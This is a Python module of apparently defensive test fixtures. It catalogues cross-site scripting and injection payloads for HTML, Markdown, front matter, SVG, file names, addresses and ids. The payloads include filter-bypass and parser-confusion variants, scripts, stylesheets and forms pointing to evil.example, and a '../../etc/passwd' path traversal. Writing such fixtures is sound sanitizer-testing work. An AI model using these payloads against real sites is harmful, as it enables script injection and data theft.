"""Ways of getting a script, a disguise or a stray link into a page, each by the door it comes through."""

from __future__ import annotations

# HTML as someone could write it into a page. Each that runs calls alert; the others dress up or lead away.
HTML: dict[str, str] = {
    "script": "<script>alert(1)</script>",
    "script in capitals": "<ScRiPt>alert(1)</sCrIpT>",
    "script from elsewhere": '<script src="//evil.example/x.js"></script>',
    "script as data": '<script src="data:text/javascript,alert(1)"></script>',
    "module that imports": "<script type=module>import('data:text/javascript,alert(1)')</script>",
    "picture that fails": "<img src=x onerror=alert(1)>",
    "picture, slashes for spaces": '<img/src="x"/onerror=alert(1)>',
    "picture over two lines": "<img src=x\nonerror=alert(1)>",
    "pointer over text": '<b onmouseover="alert(1)">di</b>',
    "focus by itself": "<input autofocus onfocus=alert(1)>",
    "details that open": "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "animation that begins": "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
    "svg that loads": "<svg onload=alert(1)></svg>",
    "script within svg": "<svg><script>alert(1)</script></svg>",
    "link within svg": "<svg><a xlink:href='javascript:alert(1)'><text x=9 y=9>x</text></a></svg>",
    "link that is code": '<a href="javascript:alert(1)">x</a>',
    "link that is code, spelled with entities": '<a href="java&#115;cript&colon;alert(1)">x</a>',
    "link that is code, after odd characters": '<a href=" &#1;java&#9;script:alert(1)">x</a>',
    "link to data": '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    "frame with its own page": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "frame that is code": '<iframe src="javascript:alert(1)"></iframe>',
    "object that is code": '<object data="javascript:alert(1)"></object>',
    "embedded code": '<embed src="javascript:alert(1)">',
    "video that fails": "<video><source onerror=alert(1) src=x></video>",
    "form that is code": '<form action="javascript:alert(1)"><button>x</button></form>',
    "button of a form": '<form><button formaction="javascript:alert(1)">x</button></form>',
    "form that sends elsewhere": '<form action="https://evil.example/"><input name=a><button>x</button></form>',
    "refresh into code": '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
    "another base": '<base href="https://evil.example/">',
    "style from elsewhere": '<link rel=stylesheet href="https://evil.example/x.css">',
    "style that hides": "<style>footer{display:none}</style>",
    "banner over the page": '<p style="position:fixed;inset:0">Gọi số khác</p>',
    "math that confuses parsers": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "noscript that confuses parsers": '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "comment that confuses parsers": "<!--><img src=x onerror=alert(1)>-->",
    "title that ends early": '<p title="</p><script>alert(1)</script>">x</p>',
}
# Those that change looks instead of calling alert or asking elsewhere.
LOOKS = {"style that hides", "banner over the page", "math that confuses parsers"}
# Those that browsers no longer run, whatever the policy.
DEAD = {"link to data", "object that is code", "embedded code", "refresh into code", "title that ends early"}

# The same in Markdown's own signs.
MARKDOWN: dict[str, str] = {
    "attributes of a heading": "## Mục { onclick=alert(1) }",
    "attributes of a picture": "![x](y.png){ onerror=alert(1) }",
    "attributes of a paragraph": "Chữ\n{: onmouseover=alert(1) }",
    "style of a paragraph": 'Chữ\n{: style="position:fixed" }',
    "id that ends early": '## Mục { #"><script>alert(1)</script> }',
    "link that is code": "[x](javascript:alert(1))",
    "link that is code, in angles": "[x](<javascript:alert(1)>)",
    "link that is code, with entities": "[x](java&#115;cript:alert(1))",
    "link that is code, in capitals": "[x](JaVaScRiPt:alert(1))",
    "link that is code, over two lines": "[x](java\nscript:alert(1))",
    "link defined below": "[x]\n\n[x]: javascript:alert(1)",
    "link by itself": "<javascript:alert(1)>",
    "link to data": "[x](data:text/html,hi)",
    "link without a scheme": "[x](//evil.example/)",
    "picture of data": "![x](data:image/svg+xml,hi)",
}

FRONT_MATTER: dict[str, str] = {
    "title with a picture": "title: <img src=x onerror=alert(1)>",
    "title that ends early": 'title: "</title><script>alert(1)</script>"',
    "description with a script": "description: <script>alert(1)</script>",
    "template from elsewhere": "template: ../../etc/passwd",
    "field that no template knows": "onload: alert(1)",
}
# These may stand: they are text, and must be shown as text.
QUIET_FRONT_MATTER: dict[str, str] = {
    "title with entities": 'title: "&lt;img src=x onerror=alert(1)&gt;"',
    "description that ends its attribute": 'description: \'" onload="alert(1)" x="\'',
    "title that ends its attribute": 'title: \'" onfocus="alert(1)" autofocus x="\'',
}

SVG: dict[str, str] = {
    "script": '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
    "load": '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
    "page within": '<svg xmlns="http://www.w3.org/2000/svg"><foreignObject><body xmlns="http://www.w3.org/1999/xhtml"/></foreignObject></svg>',
    "link": '<svg xmlns="http://www.w3.org/2000/svg" xmlns:x="http://www.w3.org/1999/xlink"><path x:href="javascript:alert(1)"/></svg>',
    "entity": '<!DOCTYPE svg [<!ENTITY a "b">]><svg xmlns="http://www.w3.org/2000/svg"><text>&a;</text></svg>',
    "style sheet": '<?xml-stylesheet href="//evil.example/x.css"?><svg xmlns="http://www.w3.org/2000/svg"/>',
    "not a drawing": "<html><script>alert(1)</script></html>",
}
FILE_NAMES = ("<img src=x onerror=alert(1)>.md", '"onload=alert(1).md', "a b.md", "Trang.md", "x.html", "x.svg", "x.js",
              "x.htm", "x.xhtml", "x.pdf.exe", "x.svgz", "a..md")  # fmt: skip
# A value in data/ where an address or an id is expected.
ADDRESSES = ("javascript:alert(1)", "JaVaScRiPt:alert(1)", "data:text/html,x", "//evil.example", "https://a b", " https://a.example",
             'https://a.example/"onclick="alert(1)', "vbscript:x", "https:alert(1)")  # fmt: skip
IDS = ("../../x", "a/b", "A", "x'onclick=alert(1)", "<b>", "con", "x\\n", "trе-em", "-a", "a--b")
# Text that may stand anywhere a text may: shown as it is, everywhere it goes.
TEXT = "\"'><img src=x onerror=alert(1)></title><script>alert(1)</script> {{ 7*7 }} [x](javascript:alert(1)) &lt;b&gt;"
